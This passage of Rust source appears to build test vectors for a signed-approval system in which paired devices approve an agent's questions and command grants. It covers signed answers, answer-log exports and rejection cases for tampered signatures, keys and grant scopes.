        /// The first record that fails, from 1 (0: the document as a whole).
        index: usize,
        question_id: String,
        /// The step of docs/crypto.md §4.9 that fails: `shape`, `0`, `0a`, `1` to `14`.
        step: &'static str,
        /// The Rust implementation's wording.
        reason: &'static str,
        /// The device the failure names (step 0a).
        #[serde(skip_serializing_if = "Option::is_none")]
        device_id: Option<String>,
        /// The grant that fails, from 1 (steps g1 to g11, u1 to u4; `index` is then 0).
        #[serde(skip_serializing_if = "Option::is_none")]
        grant: Option<usize>,
        /// The use of that grant that fails, from 1 (steps u1 to u4).
        #[serde(rename = "use", skip_serializing_if = "Option::is_none")]
        grant_use: Option<usize>,
    },
}

/// An export as a vector carries it: as the library writes it, or edited as JSON into what the library
/// never writes (times with other offsets, members of other types); edited ones have their members sorted.
#[derive(Serialize)]
#[serde(untagged)]
enum ExportJson {
    Written(Box<AnswerLogExport>),
    Edited(serde_json::Value),
}

fn lower_hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn from_hex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).expect("hex"))
        .collect()
}

/// The step of docs/crypto.md §4.7 a rejection of `verdict_signed` stands for: 6a for the signature's, the
/// number of [`verdict_step`] for the others.
fn signed_verdict_step(reason: &str) -> String {
    match reason {
        "the answer's signature does not verify with the device's signing key"
        | "the answer is not signed, but the device has a signing key"
        | "the answer is signed with a key the agent never received from the device"
        | roster::SIGNING_KEY_REFUSED
        | roster::SIGNATURE_REQUIRED => "6a".into(),
        other => verdict_step(other).to_string(),
    }
}

/// The question of `qst_deploy` as the agent sealed it for itself, and `dv_vector`'s answers to it judged with
/// and without a pinned signing key.
fn signed_verdict_cases() -> Vec<SignatureCase> {
    let asked = &answered()[0];
    let plain = json(&asked.question);
    let self_key = keys::self_key(&MASTER, AGENT_ID);
    let device_key = keys::device_key(&MASTER, AGENT_ID, DEVICE_ID);
    let own_envelope = envelope::seal_with_nonce(
        &self_key,
        &question::question_aad(AGENT_ID, "", asked.question_id),
        counting(0xd0),
        plain.as_bytes(),
    );
    let own =
        OwnQuestion::open(&self_key, AGENT_ID, asked.question_id, &own_envelope).expect("own copy opens");
    let key = signing_key(SIGNING_SEED);
    let other = signing_key(counting(0xa0));
    let sign = |answer: &Answer, at: &str, with: &SigningKey| {
        SignedAnswer {
            agent_id: AGENT_ID,
            device_id: DEVICE_ID,
            question_id: asked.question_id,
            question_digest: &own.digest,
            answered_at: time(at),
            answer,
        }
        .sign(with)
    };
    let payload = |answer: Answer, at: &str, signature: Option<String>| AnswerPayload {
        grant: None,
        question_id: asked.question_id.into(),
        answer,
        answered_at: time(at),
        question_digest: Some(own.digest.clone()),
        signature,
    };
    let on_time = asked.answered_at;
    let late = "2026-11-30T01:00:00.000Z";
    let case_in = |name: &'static str,
                   pinned: Option<PublicKey>,
                   (refused, required): (bool, bool),
                   answer: AnswerPayload,
                   n: u8| {
        let answer_plaintext = json(&answer);
        let answer_envelope = envelope::seal_with_nonce(
            &device_key,
            &question::answer_aad(AGENT_ID, DEVICE_ID, asked.question_id),
            [n; 12],
            answer_plaintext.as_bytes(),
        );
        let relay_time = answer.answered_at.plus_millis(120);
        let now = time("2026-11-30T00:50:00.000Z");
        let report = RelayReport {
            state: QuestionState::Answered,
            answered_by: Some(DEVICE_ID),
            answered_at: Some(relay_time),
            answer_envelope: Some(&answer_envelope),
            channel: None,
        };
        let signing = |d: &str| match pinned.filter(|_| d == DEVICE_ID) {
            Some(key) => DeviceSigning::Pinned(key),
            None if refused => DeviceSigning::MustSign(roster::SIGNING_KEY_REFUSED),
            None if required => DeviceSigning::MustSign(roster::SIGNATURE_REQUIRED),
            None => DeviceSigning::Unsigned,
        };
        let v = question::verdict_with(
            AGENT_ID,
            &own,
            &report,
            |d| keys::device_key(&MASTER, AGENT_ID, d),
            |d| d == DEVICE_ID,
            signing,
            now,
        );
        SignatureCase::SignedVerdict {
            name,
            agent_id: AGENT_ID,
            question_id: asked.question_id,
            self_key: b64::encode(&self_key.to_bytes()),
            own_envelope: own_envelope.clone(),
            device_id: DEVICE_ID,
            device_key: b64::encode(&device_key.to_bytes()),
            pinned_key: pinned.map(|p| p.to_b64()),
            may_approve: vec![DEVICE_ID],
            signing_key_refused: refused,
            require_signed: required,
            answered_at: relay_time.to_rfc3339(),
            answer_envelope,
            answer_plaintext,
            now: now.to_rfc3339(),
            state: v.state.as_str(),
            approved: v.approved,
            signed: v.signature.is_some(),
            rejected_at_step: v.rejected.map(signed_verdict_step),
            rejected: v.rejected,
        }
    };
    let case = |name, pinned, answer, n| case_in(name, pinned, (false, false), answer, n);
    let pinned = Some(key.public_key());
    vec![
        case_in(
            "an unsigned yes, no key pinned, the agent refused the key the relay listed: rejected",
            None,
            (true, false),
            payload(Answer::Yes, on_time, None),
            0xeb,
        ),
        case_in(
            "an unsigned yes, no key pinned, the agent requires signed answers: rejected",
            None,
            (false, true),
            payload(Answer::Yes, on_time, None),
            0xec,
        ),
        case_in(
            "a signed yes, no key pinned, the agent requires signed answers: rejected",
            None,
            (false, true),
            payload(Answer::Yes, on_time, Some(sign(&Answer::Yes, on_time, &key))),
            0xed,
        ),
        case(
            "a signed yes, the key pinned: approved, signed",
            pinned,
            payload(Answer::Yes, on_time, Some(sign(&Answer::Yes, on_time, &key))),
            0xe1,
        ),
        case(
            "a signed no, the key pinned: answered, not approved",
            pinned,
            payload(Answer::No, on_time, Some(sign(&Answer::No, on_time, &key))),
            0xe2,
        ),
        case(
            "a yes without a signature, the key pinned: rejected",
            pinned,
            payload(Answer::Yes, on_time, None),
            0xe3,
        ),
        case(
            "a yes signed with another key: rejected",
            pinned,
            payload(Answer::Yes, on_time, Some(sign(&Answer::Yes, on_time, &other))),
            0xe4,
        ),
        case(
            "a yes carrying the signature of a no: rejected",
            pinned,
            payload(Answer::Yes, on_time, Some(sign(&Answer::No, on_time, &key))),
            0xe5,
        ),
        case(
            "a yes signed for another answeredAt: rejected",
            pinned,
            payload(
                Answer::Yes,
                on_time,
                Some(sign(&Answer::Yes, "2026-11-30T00:41:02.004Z", &key)),
            ),
            0xe6,
        ),
        case(
            "a signature that is not base64url: rejected",
            pinned,
            payload(Answer::Yes, on_time, Some("not a signature".into())),
            0xe7,
        ),
        case(
            "a signed yes, no key pinned (never received): rejected",
            None,
            payload(Answer::Yes, on_time, Some(sign(&Answer::Yes, on_time, &key))),
            0xe8,
        ),
        case(
            "an unsigned yes, no key pinned (paired before keys): approved, unsigned",
            None,
            payload(Answer::Yes, on_time, None),
            0xe9,
        ),
        case(
            "a signed yes at the expiry, the key pinned: the signature passes, the time does not",
            pinned,
            payload(Answer::Yes, late, Some(sign(&Answer::Yes, late, &key))),
            0xea,
        ),
    ]
}

/// One answered question of the export: what was asked, who answered what, when.
struct Answered {
    question_id: &'static str,
    question: QuestionPayload,
    device_id: &'static str,
    seed: [u8; 32],
    answer: Answer,
    answered_at: &'static str,
}

fn answered() -> Vec<Answered> {
    let question =
        |text: &str, kind, options: &[&str], multiple, details: Option<&str>, expires, to: &[&str]| {
            QuestionPayload {
                grants: None,
                question: text.into(),
                kind,
                options: options.iter().map(|o| o.to_string()).collect(),
                multiple,
                details: details.map(str::to_string),
                expires_at: time(expires),
                recipients: to.iter().map(|d| d.to_string()).collect(),
                answer_key: None,
                channels: Vec::new(),
                user: None,
                approvals: 1,
            }
        };
    vec![
        Answered {
            question_id: "qst_deploy",
            question: QuestionPayload {
                answer_key: Some(b64::encode(&ANSWER_KEY)),
                ..question(
                    "Deploy v2.3 to production?",
                    QuestionKind::YesNo,
                    &[],
                    false,
                    Some("Tests passés ✓ — 3 migrations"),
                    "2026-11-30T01:00:00.000Z",
                    &[DEVICE_ID, TABLET_ID],
                )
            },
            device_id: DEVICE_ID,
            seed: SIGNING_SEED,
            answer: Answer::Yes,
            answered_at: "2026-11-30T00:41:02.003Z",
        },
        Answered {
            question_id: "qst_regions",
            question: question(
                "Which regions get the release first?",
                QuestionKind::Choice,
                &["eu-west", "us-east", "ap-south"],
                true,
                None,
                "2026-11-30T02:00:00.000Z",
                &[DEVICE_ID],
            ),
            device_id: DEVICE_ID,
            seed: SIGNING_SEED,
            answer: Answer::Options(vec!["us-east".into(), "eu-west".into()]),
            answered_at: "2026-11-30T01:15:00.250Z",
        },
        Answered {
            question_id: "qst_note",
            question: question(
                "Un mot pour l’équipe ?",
                QuestionKind::Text,
                &[],
                false,
                None,
                "2026-11-30T03:00:00.000Z",
                &[DEVICE_ID, TABLET_ID],
            ),
            device_id: TABLET_ID,
            seed: counting(0x80),
            answer: Answer::Text("Bravo à tous — déploiement réussi ✓ 🚀".into()),
            answered_at: "2026-11-30T01:30:00.999Z",
        },
        Answered {
            question_id: "qst_drop",
            question: question(
                "Drop the staging database?",
                QuestionKind::YesNo,
                &[],
                false,
                Some("staging-eu, 41 GB"),
                "2026-11-30T04:00:00.000Z",
                &[TABLET_ID],
            ),
            device_id: TABLET_ID,
            seed: counting(0x80),
            answer: Answer::No,
            answered_at: "2026-11-30T02:00:00.000Z",
        },
        Answered {
            question_id: "qst_comment",
            question: question(
                "Anything to add to the release notes?",
                QuestionKind::Text,
                &[],
                false,
                None,
                "2026-11-30T05:00:00.000Z",
                &[TABLET_ID],
            ),
            device_id: TABLET_ID,
            seed: counting(0x80),
            answer: Answer::Text(String::new()),
            answered_at: "2026-11-30T02:30:00.000Z",
        },
        Answered {
            question_id: GATE_ID,
            question: QuestionPayload {
                grants: Some(gate_offer()),
                ..question(
                    "Claude Code wants to run a command in /work/app",
                    QuestionKind::YesNo,
                    &[],
                    false,
                    Some("Bash: cargo test"),
                    "2026-11-30T06:00:00.000Z",
                    &[DEVICE_ID],
                )
            },
            device_id: DEVICE_ID,
            seed: SIGNING_SEED,
            answer: Answer::Yes,
            answered_at: GATE_ANSWERED_AT,
        },
    ]
}

/// The gate's scope of `cargo test` in [`GATE_FOLDER`].
fn gate_scope(matching: CommandMatch) -> GrantScope {
    GrantScope {
        tool: "Bash".into(),
        command: Some("cargo test".into()),
        matching: Some(matching),
        folder: GATE_FOLDER.into(),
    }
}

/// What the gate question offers: 15 min or 1 h, `cargo test` exactly or as a prefix, under [`GATE_POLICY`].
fn gate_offer() -> GrantOffer {
    GrantOffer {
        durations: vec![900, 3600],
        scopes: vec![gate_scope(CommandMatch::Exact), gate_scope(CommandMatch::Prefix)],
        policy: grant::policy_digest(GATE_POLICY.as_bytes()),
    }
}

/// The gate question's bytes, as the agent sealed them, and their digest.
fn gate_question() -> (String, String) {
    let bytes = json(
        &answered()
            .into_iter()
            .find(|a| a.question_id == GATE_ID)
            .expect("the gate question")
            .question,
    );
    let digest = question_digest(bytes.as_bytes());
    (bytes, digest)
}

/// The inputs of `Grant::check`, which a `rejectGrant` case changes.
struct GrantInputs {
    public_key: Option<PublicKey>,
    agent_id: String,
    device_id: String,
    question_id: String,
    question_digest: String,
    granted_at: Timestamp,
    offer: Option<GrantOffer>,
    grant: Grant,
}

impl GrantInputs {
    fn of(&self) -> SignedGrantOf<'_> {
        SignedGrantOf {
            agent_id: &self.agent_id,
            device_id: &self.device_id,
            question_id: &self.question_id,
            question_digest: &self.question_digest,
            granted_at: self.granted_at,
        }
    }

    /// Signs the grant again with `seed`, as the inputs now are: what a device that signed it would send.
    fn sign(&mut self, seed: [u8; 32]) {
        self.grant.signature = self.grant.signed(self.of()).sign(&signing_key(seed));
    }

    fn check(&self) -> Result<(), GrantRefusal> {
        self.grant
            .check(self.offer.as_ref(), self.of(), self.public_key.as_ref())
    }
}

/// The grant `dv_vector` gives with its yes to the gate question: `matching` `cargo test`, for `seconds`.
fn gate_grant(matching: CommandMatch, seconds: i64) -> GrantInputs {
    let (_, digest) = gate_question();
    let mut inputs = GrantInputs {
        public_key: Some(signing_key(SIGNING_SEED).public_key()),
        agent_id: AGENT_ID.into(),
        device_id: DEVICE_ID.into(),
        question_id: GATE_ID.into(),
        question_digest: digest,
        granted_at: time(GATE_ANSWERED_AT),
        offer: Some(gate_offer()),
        grant: Grant {
            scope: gate_scope(matching),
            expires_at: time(GATE_ANSWERED_AT).plus_millis(seconds * 1000),
            policy: grant::policy_digest(GATE_POLICY.as_bytes()),
            signature: String::new(),
        },
    };
    inputs.sign(SIGNING_SEED);
    assert_eq!(inputs.check(), Ok(()));
    inputs
}

/// The export's grant: `cargo test` as a prefix, for 15 min.
fn export_grant() -> Grant {
    gate_grant(CommandMatch::Prefix, 900).grant
}

fn signed_grant_case(name: &'static str, matching: CommandMatch, seconds: i64) -> SignatureCase {
    let inputs = gate_grant(matching, seconds);
    let key = signing_key(SIGNING_SEED);
    SignatureCase::SignedGrant {
        name,
        seed: b64::encode(&SIGNING_SEED),
        public_key: key.public_key().to_b64(),
        agent_id: AGENT_ID,
        device_id: DEVICE_ID,
        question_id: GATE_ID,
        question_digest: inputs.question_digest.clone(),
        granted_at: GATE_ANSWERED_AT.into(),
        offer: inputs.offer.clone().expect("offered"),
        signed_bytes_hex: lower_hex(&inputs.grant.signed(inputs.of()).bytes()),
        grant: inputs.grant,
    }
}

/// The export's grant (prefix, 15 min) with its inputs changed by `change`, refused with `refusal`.
fn reject_grant(name: &'static str, refusal: &str, change: impl FnOnce(&mut GrantInputs)) -> SignatureCase {
    let mut inputs = gate_grant(CommandMatch::Prefix, 900);
    change(&mut inputs);
    let refused = inputs.check().expect_err(name);
    assert_eq!(refused.code(), refusal, "{name}");
    SignatureCase::RejectGrant {
        name,
        public_key: inputs.public_key.map(|k| k.to_b64()),
        question_digest: inputs.question_digest.clone(),
        granted_at: inputs.granted_at.to_rfc3339(),
        agent_id: inputs.agent_id,
        device_id: inputs.device_id,
        question_id: inputs.question_id,
        offer: inputs.offer,
        grant: inputs.grant,
        refusal: refused.code(),
        reason: refused.to_string(),
    }
}

/// A use of the export's grant at `at`: `command` in the gate's folder.
fn grant_use(at: &str, command: &str) -> ExportGrantUse {
    ExportGrantUse {
        at: time(at),
        tool: "Bash".into(),
        command: Some(command.into()),
        folder: GATE_FOLDER.into(),
        paths: Vec::new(),
    }
}

fn signing_key(seed: [u8; 32]) -> SigningKey {
    SigningKey::from_seed(seed).expect("a fixed seed")
}

fn signing_key_case(name: &'static str, seed: [u8; 32]) -> SignatureCase {
    let public = signing_key(seed).public_key();
    SignatureCase::SigningKey {
        name,
        seed: b64::encode(&seed),
        public_key: public.to_b64(),
        fingerprint: public.fingerprint(),
    }
}

fn signed_answer_case(name: &'static str, a: &Answered) -> SignatureCase {
    let key = signing_key(a.seed);
    let digest = question_digest(json(&a.question).as_bytes());
    let signed = SignedAnswer {
        agent_id: AGENT_ID,
        device_id: a.device_id,
        question_id: a.question_id,
        question_digest: &digest,
        answered_at: time(a.answered_at),
        answer: &a.answer,
    };
    SignatureCase::SignedAnswer {
        name,
        seed: b64::encode(&a.seed),
        public_key: key.public_key().to_b64(),
        agent_id: AGENT_ID,
        device_id: a.device_id,
        question_id: a.question_id,
        question_digest: digest.clone(),
        answered_at: a.answered_at.into(),
        answer: a.answer.clone(),
        signed_bytes_hex: lower_hex(&signed.bytes()),
        signature: signed.sign(&key),
    }
}

fn export_device(
    device_id: &str,
    name: &str,
    role: Role,
    added_at: &str,
    seed: Option<[u8; 32]>,
    revoked_at: Option<&str>,
) -> ExportDevice {
    let public = seed.map(|s| signing_key(s).public_key());
    ExportDevice {
        device_id: device_id.into(),
        name: Some(name.into()),
        role,
        added_at: time(added_at),
        paired_at: Some(time(added_at).plus_millis(30_000)),
        revoked_at: revoked_at.map(time),
        signing_key: public.map(|p| p.to_b64()),
        fingerprint: public.map(|p| p.fingerprint()),
    }
}

/// The answer log of `ag_vector`: two devices with keys, one paired before keys (revoked, no answers), one
/// answer of each type, and an empty text.
/// Record 7: "Deploy v3 to production?" needs two approvals (docs/crypto.md §4.7b); `dv_second` then
/// `dv_third` answer it yes, each signing, and the record is the second yes with both listed.
fn quorum_record() -> ExportRecord {
    let question = QuestionPayload {
        grants: None,
        question: "Deploy v3 to production?".into(),
        kind: QuestionKind::YesNo,
        options: Vec::new(),
        multiple: false,
        details: Some("two people approve".into()),
        expires_at: time("2026-11-30T07:00:00.000Z"),
        recipients: vec![SECOND_ID.into(), THIRD_ID.into()],
        answer_key: None,
        channels: Vec::new(),
        user: None,
        approvals: 2,
    };
    let bytes = json(&question);
    let digest = question_digest(bytes.as_bytes());
    let approval = |device: &str, seed: [u8; 32], at: &str| {
        let signature = SignedAnswer {
            agent_id: AGENT_ID,
            device_id: device,
            question_id: QUORUM_ID,
            question_digest: &digest,
            answered_at: time(at),
            answer: &Answer::Yes,
        }
        .sign(&signing_key(seed));
        signing::ExportApproval {
            device_id: device.into(),
            answered_at: time(at),
            signature,
        }
    };
    let first = approval(SECOND_ID, counting(0x90), "2026-11-30T06:10:00.000Z");
    let second = approval(THIRD_ID, counting(0xa0), "2026-11-30T06:12:30.250Z");
    ExportRecord {
        question_id: QUORUM_ID.into(),
        question: b64::encode(bytes.as_bytes()),
        question_digest: digest.clone(),
        device_id: THIRD_ID.into(),
        answer: Answer::Yes,
        answered_at: second.answered_at,
        approved: true,
        signature: Some(second.signature.clone()),
        signing_key: Some(signing_key(counting(0xa0)).public_key().to_b64()),
        approvals: vec![first, second],
    }
}

fn good_export() -> AnswerLogExport {
    let mut records: Vec<ExportRecord> = answered()
        .iter()
        .map(|a| {
            let key = signing_key(a.seed);
            let bytes = json(&a.question);
            let digest = question_digest(bytes.as_bytes());
            let signed = SignedAnswer {
                agent_id: AGENT_ID,
                device_id: a.device_id,
                question_id: a.question_id,
                question_digest: &digest,
                answered_at: time(a.answered_at),
                answer: &a.answer,
            };
            ExportRecord {
                question_id: a.question_id.into(),
                question: b64::encode(bytes.as_bytes()),
                question_digest: digest.clone(),
                device_id: a.device_id.into(),
                answer: a.answer.clone(),
                answered_at: time(a.answered_at),
                approved: matches!(a.answer, Answer::Yes | Answer::Options(_)),
                signature: Some(signed.sign(&key)),
                signing_key: Some(key.public_key().to_b64()),
                approvals: Vec::new(),
            }
        })
        .collect();
    records.push(quorum_record());
    AnswerLogExport {
        v: 1,
        format: signing::EXPORT_FORMAT.into(),
        agent_id: AGENT_ID.into(),
        exported_at: time("2026-12-01T09:00:00.000Z"),
        devices: vec![
            export_device(
                DEVICE_ID,
                "Ana’s phone",
                Role::Owner,
                "2026-11-30T00:10:00.250Z",
                Some(SIGNING_SEED),
                None,
            ),
            export_device(
                TABLET_ID,
                "Tablette de Léa",
                Role::User,
                "2026-11-30T00:20:00.000Z",
                Some(counting(0x80)),
                None,
            ),
            export_device(
                "dv_old",
                "Old laptop",
                Role::Owner,
                "2026-11-29T08:00:00.000Z",
                None,
                Some("2026-11-30T00:05:00.000Z"),
            ),
            export_device(
                SECOND_ID,
                "Bob’s phone",
                Role::Owner,
                "2026-11-30T00:30:00.000Z",
                Some(counting(0x90)),
                None,
            ),
            export_device(
                THIRD_ID,
                "Chloé’s phone",
                Role::Owner,
                "2026-11-30T00:40:00.000Z",
                Some(counting(0xa0)),
                None,
            ),
        ],
        records,
        grants: vec![ExportGrant {
            given: GivenGrant {
                id: GATE_ID.into(),
                device_id: DEVICE_ID.into(),
                granted_at: time(GATE_ANSWERED_AT),
                question: b64::encode(gate_question().0.as_bytes()),
                grant: export_grant(),
            },
            uses: vec![
                grant_use("2026-11-30T05:12:00.000Z", "cargo test"),
                grant_use("2026-11-30T05:17:30.500Z", "cargo test -p pacerelle-core"),
                grant_use("2026-11-30T05:24:59.999Z", "cargo test --release -- --nocapture"),
            ],
        }],
    }
}

/// `good_export()` changed by `change`, which must make record `index` (from 1; 0: the document) the first
/// to fail.
fn reject_export(
    name: &'static str,
    index: usize,
    change: impl FnOnce(&mut AnswerLogExport),
) -> SignatureCase {
    let mut export = good_export();
    change(&mut export);
    let failure = signing::verify_export(&export).expect_err(name);
    assert_eq!(failure.index, index, "{name}: {failure}");
    let bytes = serde_json::to_vec(&export).expect("json");
    assert_eq!(
        signing::verify_export_json(&bytes),
        Err(failure.clone()),
        "{name}"
    );
    SignatureCase::RejectExport {
        name,
        index,
        question_id: failure.question_id,
        step: failure.step,
        reason: failure.reason,
        device_id: failure.device_id,
        grant: failure.grant,
        grant_use: failure.grant_use,
        export: Some(ExportJson::Written(Box::new(export))),
        export_text: None,
    }
}

/// `good_export()` changed by `change`, which must make its grant fail first, at `step`, and at its use
/// `grant_use` (from 1) when it is one of the use's steps.
fn reject_grant_export(
    name: &'static str,
    grant_use: Option<usize>,
    step: &str,
    change: impl FnOnce(&mut AnswerLogExport),
) -> SignatureCase {
    let case = reject_export(name, 0, change);
    let SignatureCase::RejectExport {
        step: failed,
        grant,
        grant_use: failed_use,
        ..
    } = &case
    else {
        unreachable!("reject_export makes rejectExport cases")
    };
    assert_eq!(
        (*failed, *grant, *failed_use),
        (step, Some(1), grant_use),
        "{name}"
    );
    case
}

/// `good_export()` as JSON, changed by `change`.
fn edited_export(change: impl FnOnce(&mut serde_json::Value)) -> serde_json::Value {
    let mut export = serde_json::to_value(good_export()).expect("json");
    change(&mut export);
    export
}

/// An export edited as JSON that verifies, as every record of `good_export()` does.
fn accept_export(name: &'static str, change: impl FnOnce(&mut serde_json::Value)) -> SignatureCase {
    let export = edited_export(change);
    let records = good_export().records.len();
    let bytes = serde_json::to_vec(&export).expect("json");
    assert_eq!(signing::verify_export_json(&bytes), Ok(records), "{name}");
    SignatureCase::Export {
        name,
        export: ExportJson::Edited(export),
        records,
    }
}

/// An export edited as JSON, or as text when `text` is given, that fails first at record `index`, `step`.
fn reject_edited(
    name: &'static str,
    index: usize,
    step: &str,
    export: Option<serde_json::Value>,
    text: Option<String>,
) -> SignatureCase {
    let bytes = match (&export, &text) {
        (_, Some(text)) => text.clone().into_bytes(),
        (Some(export), None) => serde_json::to_vec(export).expect("json"),
        (None, None) => panic!("{name}: an export or its text"),
    };
    let failure = signing::verify_export_json(&bytes).expect_err(name);
    assert_eq!((failure.index, failure.step), (index, step), "{name}: {failure}");
    SignatureCase::RejectExport {
        name,
        index,
        question_id: failure.question_id,
        step: failure.step,
        reason: failure.reason,
        device_id: failure.device_id,
        grant: failure.grant,
        grant_use: failure.grant_use,
        export: export.map(ExportJson::Edited),
        export_text: text,
    }
}

/// The signing seed of the export's device `device_id`.
fn seed_of(device_id: &str) -> [u8; 32] {
    match device_id {
        DEVICE_ID => SIGNING_SEED,
        TABLET_ID => counting(0x80),
        other => panic!("no seed for {other}"),
    }
}

/// Signs `record` again with `key` (its answer, time and question as they now are).
fn sign_record(record: &mut ExportRecord, key: &SigningKey) {
    let signature = SignedAnswer {
        agent_id: AGENT_ID,
        device_id: &record.device_id,
        question_id: &record.question_id,
        question_digest: &record.question_digest,
        answered_at: record.answered_at,
        answer: &record.answer,
    }
    .sign(key);
    record.signature = Some(signature);
    record.signing_key = Some(key.public_key().to_b64());
}

/// Record `index` (from 0) with the question bytes `bytes`, their digest, and the answering device's genuine
/// signature over them: only what the bytes say can make it fail.
fn signed_question_bytes(export: &mut AnswerLogExport, index: usize, bytes: &[u8]) {
    let record = &mut export.records[index];
    record.question = b64::encode(bytes);
    record.question_digest = question_digest(bytes);
    let key = signing_key(seed_of(&record.device_id));
    sign_record(record, &key);
}

/// The question bytes of record `index` (from 0) of `good_export()`, as text.
fn question_text(index: usize) -> String {
    json(&answered()[index].question)
}

/// A question payload changed by `change`, with its bytes and digest recomputed in record `index` (from 0).
fn rewrite_question(export: &mut AnswerLogExport, index: usize, change: impl FnOnce(&mut QuestionPayload)) {
    let record = &mut export.records[index];
    let bytes = b64::decode(&record.question).expect("own question");
    let mut question: QuestionPayload = serde_json::from_slice(&bytes).expect("own question");
    change(&mut question);
    let bytes = json(&question);
    record.question = b64::encode(bytes.as_bytes());
    record.question_digest = question_digest(bytes.as_bytes());
}

fn seal_signing_key_case(name: &'static str, nonce: [u8; 12]) -> SignatureCase {
    let device_key = keys::device_key(&MASTER, AGENT_ID, DEVICE_ID);
    let public = signing_key(SIGNING_SEED).public_key();
    let payload = SigningKeyPayload {
        v: 1,
        agent_id: AGENT_ID.into(),
        device_id: DEVICE_ID.into(),
        signing_key: public.to_b64(),
    };
    let payload_json = json(&payload);
    let fields = AadFields::new(AGENT_ID, DEVICE_ID, "d2a", signing::KIND_SIGNING_KEY, DEVICE_ID);
    assert_eq!(signing::signing_key_aad(AGENT_ID, DEVICE_ID), fields.aad());
    let envelope = envelope::seal_with_nonce(&device_key, &fields.aad(), nonce, payload_json.as_bytes());
    assert_eq!(
        signing::open_signing_key(
            &device_key,
            AGENT_ID,
            DEVICE_ID,
            &envelope,
            Some(&public.to_b64())
        ),
        Ok(public)
    );
    SignatureCase::SealedSigningKey {
        name,
        device_key: b64::encode(&device_key.to_bytes()),
        agent_id: AGENT_ID,
        device_id: DEVICE_ID,
        public_key: public.to_b64(),
        aad: b64::encode(&fields.aad().to_bytes().expect("short fields")),
        aad_fields: fields,
        nonce: b64::encode(&nonce),
        envelope,
        payload_json,
    }
}

/// `plaintext` sealed with `seal_key` under `seal_aad`, opened by the agent as `device_id`'s key with
/// `clear` listed beside it.
#[allow(clippy::too_many_arguments)]
fn reject_signing_key(
    name: &'static str,
    open_key: &ContentKey,
    device_id: &'static str,
    seal_key: &ContentKey,
    seal_aad: Aad<'_>,
    plaintext: String,
    clear: Option<String>,
    error: &'static str,
) -> SignatureCase {
    let envelope = envelope::seal_with_nonce(seal_key, &seal_aad, counting(0xc0), plaintext.as_bytes());
    let got = signing::open_signing_key(open_key, AGENT_ID, device_id, &envelope, clear.as_deref());
    let expected = match error {
        "invalid" => SigningKeyError::Invalid,
        "substituted" => SigningKeyError::Substituted,
        other => panic!("unknown error {other}"),
    };
    assert_eq!(got, Err(expected), "{name}");
    SignatureCase::RejectSigningKey {
        name,
        device_key: b64::encode(&open_key.to_bytes()),
        agent_id: AGENT_ID,
        device_id,
        plaintext,
        envelope,
        clear,
        error,
    }
}

fn signature_file() -> File<SignatureCase> {
    let answered = answered();
    let good = good_export();
    let device_key = keys::device_key(&MASTER, AGENT_ID, DEVICE_ID);
    let other_key = keys::device_key(&MASTER, AGENT_ID, "dv_other");
    let public = signing_key(SIGNING_SEED).public_key().to_b64();
    let stranger = signing_key(counting(0xa0)).public_key();
    let payload = |v: u8, agent: &str, device: &str, key: &str| {
        json(&SigningKeyPayload {
            v,
            agent_id: agent.into(),
            device_id: device.into(),
            signing_key: key.into(),
        })
    };
    let own_aad = signing::signing_key_aad(AGENT_ID, DEVICE_ID);
    let mut cases = vec![
        signing_key_case("dv_vector's key (seed 0x77 × 32)", SIGNING_SEED),
        signing_key_case("dv_tablet's key (counting seed 0x80, 0x81, …)", counting(0x80)),
        signing_key_case(
            "RFC 8032 §7.1 test 1",
            from_hex(RFC8032_SEED).try_into().expect("32 bytes"),
        ),
        signed_answer_case("yes (qst_deploy, dv_vector)", &answered[0]),
        signed_answer_case(
            "options, two chosen in order (qst_regions, dv_vector)",
            &answered[1],
        ),
        signed_answer_case("text with non-ASCII (qst_note, dv_tablet)", &answered[2]),
        signed_answer_case("no (qst_drop, dv_tablet)", &answered[3]),
        signed_answer_case("an empty text (qst_comment, dv_tablet)", &answered[4]),
        signed_answer_case(
            "yes to a gate question that offers grants (qst_gate, dv_vector)",
            &answered[5],
        ),
        signed_grant_case(
            "cargo test as a prefix in /work/app for 15 min (qst_gate, dv_vector): the export's grant",
            CommandMatch::Prefix,
            900,
        ),
        signed_grant_case(
            "cargo test exactly in /work/app for 1 h (qst_gate, dv_vector)",
            CommandMatch::Exact,
            3600,
        ),
        seal_signing_key_case("dv_vector's key sealed for ag_vector", counting(0xb0)),
        reject_signing_key(
            "opened as another device's (dv_other's key and id in the AAD)",
            &other_key,
            "dv_other",
            &device_key,
            own_aad,
            payload(1, AGENT_ID, DEVICE_ID, &public),
            None,
            "invalid",
        ),
        reject_signing_key(
            "sealed for dv_vector, the payload naming dv_other",
            &device_key,
            DEVICE_ID,
            &device_key,
            own_aad,
            payload(1, AGENT_ID, "dv_other", &public),
            None,
            "invalid",
        ),
        reject_signing_key(
            "sealed as an answer (kind answer) instead of signing_key",
            &device_key,
            DEVICE_ID,
            &device_key,
            question::answer_aad(AGENT_ID, DEVICE_ID, DEVICE_ID),
            payload(1, AGENT_ID, DEVICE_ID, &public),
            None,
            "invalid",
        ),
        reject_signing_key(
            "payload v 2",
            &device_key,
            DEVICE_ID,
            &device_key,
            own_aad,
            payload(2, AGENT_ID, DEVICE_ID, &public),
            None,
            "invalid",
        ),
        reject_signing_key(
            "a key of 31 bytes",
            &device_key,
            DEVICE_ID,
            &device_key,
            own_aad,
            payload(1, AGENT_ID, DEVICE_ID, &b64::encode(&[0x42; 31])),
            None,
            "invalid",
        ),
        reject_signing_key(
            "the relay's clear copy differs from the sealed key",
            &device_key,
            DEVICE_ID,
            &device_key,
            own_aad,
            payload(1, AGENT_ID, DEVICE_ID, &public),
            Some(stranger.to_b64()),
            "substituted",
        ),
        SignatureCase::Export {
            name: "ag_vector's answer log: yes, options, text, no, an empty text",
            records: good.records.len(),
            export: ExportJson::Written(Box::new(good)),
        },
    ];
    let stranger_b64 = stranger.to_b64();
    let other_policy = grant::policy_digest(b"default = \"allow\"\n");
    let deploy_digest = question_digest(json(&answered[0].question).as_bytes());
    cases.extend([
        reject_grant("scope widened: another tool (shell)", "scope_not_offered", |g| {
            g.grant.scope.tool = "shell".into();
        }),
        reject_grant("scope widened: the command cut to cargo", "scope_not_offered", |g| {
            g.grant.scope.command = Some("cargo".into());
        }),
        reject_grant(
            "scope widened: the command cut to cargo, signed again by the device (not offered)",
            "scope_not_offered",
            |g| {
                g.grant.scope.command = Some("cargo".into());
